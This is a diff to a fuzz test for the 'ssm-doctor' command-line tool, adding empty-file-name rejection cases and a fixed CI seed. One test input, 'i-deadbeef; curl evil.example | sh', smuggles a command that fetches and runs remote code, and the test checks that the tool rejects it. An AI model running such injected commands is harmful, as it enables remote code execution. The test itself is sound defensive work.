@@ -19,7 +19,7 @@ interface Model {
   timeout: string;
   json: boolean;
   format?: string;
-  /** commander rejects the line (unknown option, missing option-argument, invalid choice). */
+  /** Rejected whatever else is on the line: unknown option, missing option-argument, invalid choice, empty file name. */
   parseError: boolean;
   only: string[];
   skip: string[];
@@ -133,14 +133,14 @@ const pieces: fc.Arbitrary<Piece> = fc.oneof(
   {
     arbitrary: fc
       .oneof(
-        fc.constantFrom('--frobnicate', '-x', '--regio', '--REGION', '---json', '--json=1', '-vz', '--no-json', '--save-snapshot=', '--timeout=abc'),
+        fc.constantFrom('--frobnicate', '-x', '--regio', '--REGION', '---json', '--json=1', '-vz', '--no-json', '--save-snapshot=', '--snapshot=', '--timeout=abc'),
         fc.stringMatching(/^--[a-z][a-z-]{0,15}$/).filter((s) => !KNOWN.has(s)),
       )
       .map((f) =>
         piece([f], (m) => {
-          // `--save-snapshot=` is known (value ''); `--timeout=abc` is a bad value; the rest are unknown options.
+          // `--timeout=abc` is a bad value; `--snapshot=` / `--save-snapshot=` an empty file name; the rest unknown options.
           if (f === '--timeout=abc') m.timeout = 'abc';
-          else if (f !== '--save-snapshot=') m.parseError = true;
+          else m.parseError = true;
         }),
       ),
     weight: 1,
@@ -211,6 +211,9 @@ const FIXED: Case[] = [
   { args: [`i-${'f'.repeat(100_000)}`], expected: 'usage' },
   { args: [IID, '--json', '--format', 'junit'], expected: 'usage' },
   { args: [IID, '--unknown-option'], expected: 'usage' },
+  // An empty file name used to be falsy: a live run for --snapshot "", nothing saved for --save-snapshot "".
+  { args: [IID, '--snapshot', ''], expected: 'usage' },
+  { args: [IID, '--save-snapshot', ''], expected: 'usage' },
   { args: ['i-deadbeef; curl evil.example | sh'], expected: 'usage' },
 ];
 
@@ -233,7 +236,8 @@ async function pool<T, R>(items: T[], limit: number, fn: (x: T) => Promise<R>): 
 }
 
 describe('ssm-doctor command line, fuzzed (built CLI)', () => {
-  const seed = Number(process.env.FUZZ_SEED ?? Math.floor(Math.random() * 2 ** 31));
+  // CI replays a fixed seed (deterministic); local runs explore a new one each time.
+  const seed = Number(process.env.FUZZ_SEED ?? (process.env.CI ? 20261129 : Math.floor(Math.random() * 2 ** 31)));
   const cases = [...FIXED, ...fc.sample(caseArb, { seed, numRuns: Number(process.env.FUZZ_RUNS ?? 40) })];
 
   it(`usage errors exit 2 with one line and no request; valid lines run; never a stack trace (FUZZ_SEED=${seed})`, async () => {
